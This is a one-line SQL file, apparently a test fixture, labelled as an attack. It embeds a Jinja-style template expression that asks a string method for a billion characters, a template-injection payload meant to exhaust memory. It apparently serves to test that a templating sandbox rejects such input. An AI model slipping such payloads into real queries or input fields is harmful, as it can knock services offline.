-- ATTACK (.sql file): a string method asked for a billion characters
SELECT '{{ 'x'.center(999999999) }}' AS x
